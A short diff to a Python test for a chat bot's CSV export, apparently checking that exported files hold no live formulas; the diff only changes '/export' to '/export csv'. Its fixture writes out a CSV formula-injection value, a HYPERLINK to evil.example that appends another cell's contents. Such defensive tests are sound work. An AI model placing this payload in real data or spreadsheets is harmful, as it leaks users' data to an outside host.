@@ -82,7 +82,7 @@ async def test_an_export_in_the_chat_is_a_csv_without_live_formulas(app: App) ->
         citizen, None, residential_group='=HYPERLINK("http://evil.example/?"&B2,"Bấm vào")'
     )
     citizen.expect("đăng ký thành công")
-    await coord.send("/export")
+    await coord.send("/export csv")
     coord.expect("Đang chuẩn bị tệp dữ liệu (1 dòng)")
     deliverer = RecordingDeliverer()
     await sender(app, deliverer).flush()
